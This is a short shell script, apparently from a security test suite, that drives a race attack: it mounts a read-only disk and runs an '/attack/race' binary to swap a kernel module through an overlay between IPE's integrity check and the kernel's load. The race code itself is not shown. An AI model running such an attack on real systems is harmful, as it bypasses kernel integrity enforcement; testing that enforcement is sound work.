# shellcheck shell=sh
#
# overlay-race - change a module through an overlay between IPE's look at it and the kernel's reading
#
# SPDX-License-Identifier: MIT

mkdir -p /tmp/disk
mount -o ro /dev/vdb /tmp/disk
/attack/race /attack vmlinuz /tmp/disk/dummy.ko dummy
umount /tmp/disk
